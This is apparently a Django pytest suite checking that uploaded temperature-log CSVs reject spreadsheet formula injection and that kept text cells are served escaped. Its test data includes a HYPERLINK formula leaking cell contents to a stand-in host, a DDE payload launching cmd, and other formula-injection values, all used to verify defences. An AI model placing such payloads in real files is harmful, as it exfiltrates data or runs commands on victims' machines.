"""Spreadsheet formulas in temperature logs (OWASP CSV injection): text where a number
belongs is refused with the line named and nothing stored, whichever way the log
arrives; text cells that are kept (a header, a notes column) are served so that a
spreadsheet shows them as text; plain numbers, negative ones too, stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from documents.models import Document, DocumentKind
from documents.validation import csv_for_spreadsheets
from orders.states import CaseStatus
from tests.documents.endpoints import download, signed_in

pytestmark = pytest.mark.django_db
S = CaseStatus
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2,"Click for details")'
DDE = "+cmd|' /C calc'!A0"


def log(*rows: list[str], delimiter: str = ",") -> bytes:
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    return out.getvalue().encode()


def valid_rows(*temperatures: str) -> list[list[str]]:
    return [[f"2026-03-01 08:{10 * i:02d}", t] for i, t in enumerate(temperatures)]


@pytest.fixture
def in_transit(case_in):
    return case_in(S.IN_TRANSIT)


def stored_logs(case) -> int:
    return Document.objects.filter(case=case, kind=DocumentKind.TEMPERATURE_LOG).count()


def post_log_form(client, case, content: bytes):
    return client.post(
        reverse("orders:coordinator-temperature-log", args=[case.pk]),
        {"log-file": SimpleUploadedFile("logger.csv", content, content_type="text/csv")},
    )


def post_document(client, case, content: bytes):
    return client.post(
        reverse("documents:upload", args=[case.pk]),
        {
            "kind": DocumentKind.TEMPERATURE_LOG,
            "file": SimpleUploadedFile("logger.csv", content, content_type="text/csv"),
        },
    )


HOSTILE_CELLS = [
    ("temperature", "=1+2"),
    ("temperature", HYPERLINK),
    ("temperature", DDE),
    ("temperature", "@SUM(A1:A9)"),
    ("temperature", "-2+3"),
    ("temperature", "\t=1+2"),
    ("timestamp", "=NOW()"),
    ("timestamp", "\r=1+2"),
]


@pytest.mark.parametrize(("column", "cell"), HOSTILE_CELLS)
def test_a_formula_where_a_number_belongs_is_refused_by_the_documents_endpoint(
    in_transit, coordinator, settings, column, cell
):
    rows = [["timestamp", "temperature"], *valid_rows("22.0", "23.5", "22.5")]
    rows[3][0 if column == "timestamp" else 1] = cell

    response = post_document(signed_in(coordinator), in_transit, log(*rows))

    assert response.status_code == 400
    error = response.json()["error"]
    assert error.startswith("Line 4: ")
    assert ("not a date and time" if column == "timestamp" else "not a temperature") in error
    assert "Nothing was stored" in error
    assert stored_logs(in_transit) == 0


def test_a_formula_where_a_number_belongs_is_refused_by_the_log_form(in_transit, coordinator):
    rows = [["timestamp", "temperature"], *valid_rows("22.0", HYPERLINK, "22.5")]

    response = post_log_form(signed_in(coordinator), in_transit, log(*rows))

    assert response.status_code == 400
    assert "Line 3: " in response.content.decode()
    assert stored_logs(in_transit) == 0
    in_transit.refresh_from_db()
    assert in_transit.status == S.IN_TRANSIT


def test_a_served_log_shows_formulas_as_text_and_numbers_as_numbers(in_transit, coordinator):
    rows = [
        [DDE, "@SUM(A1:A9)", "note"],
        ["2026-03-01 08:00", "22.5", HYPERLINK],
        ["2026-03-01 08:10", "-2.5", "-door open"],
        ["2026-03-01 08:20", "-0,5 °C", "\t=1+2"],
        ["2026-03-01 08:30", "+23", "\r=1+2"],
        ["2026-03-01 08:40", "22", "checked by R. Iyer"],
    ]
    cora = signed_in(coordinator)
    assert post_log_form(cora, in_transit, log(*rows)).status_code == 302
    document = Document.objects.get(case=in_transit, kind=DocumentKind.TEMPERATURE_LOG)

    served = download(document, coordinator)

    assert list(csv.reader(io.StringIO(served.decode()))) == [
        ["'" + DDE, "'@SUM(A1:A9)", "note"],
        ["2026-03-01 08:00", "22.5", "'" + HYPERLINK],
        ["2026-03-01 08:10", "-2.5", "'-door open"],
        ["2026-03-01 08:20", "-0,5 °C", "'\t=1+2"],
        ["2026-03-01 08:30", "+23", "'\r=1+2"],
        ["2026-03-01 08:40", "22", "checked by R. Iyer"],
    ]
    # The stored copy is what came in: its sha256 still checks on the next download.
    assert document.file.open("rb").read() == log(*rows)
    assert download(document, coordinator) == served


def test_a_log_with_semicolons_and_decimal_commas_keeps_its_shape():
    content = log(
        ["Zeit", "=Temp"], ["01/03/2026 08:00", "-2,5"], ["01/03/2026 08:10", "3,0"], delimiter=";"
    )

    served = csv_for_spreadsheets(content).decode()

    assert served == "Zeit;'=Temp\r\n01/03/2026 08:00;-2,5\r\n01/03/2026 08:10;3,0\r\n"


@pytest.mark.parametrize(
    ("content", "line"),
    [
        (b"t,c\n2026-03-01 08:00,22\n2026-03-01 08:10,2\x003\n", "Line 3: "),
        (b"t,c\n2026-03-01 08:00,22\n2026-03-01 08:10," + b"9" * 200_000 + b"\n", "Line 3: "),
    ],
    ids=["nul", "huge-cell"],
)
def test_a_log_the_csv_reader_cannot_split_is_refused_not_an_error(
    in_transit, coordinator, content, line
):
    response = post_log_form(signed_in(coordinator), in_transit, content)

    assert response.status_code == 400
    assert line in response.content.decode()
    assert stored_logs(in_transit) == 0


def test_a_line_break_inside_a_cell_never_starts_a_row_when_served():
    content = log(["t", "c", "note"], ["2026-03-01 08:00", "22", "ok\r=1+2"])

    served = csv_for_spreadsheets(content)

    assert b'"ok\r=1+2"' in served
    assert list(csv.reader(io.StringIO(served.decode(), newline="")))[1][2] == "ok\r=1+2"
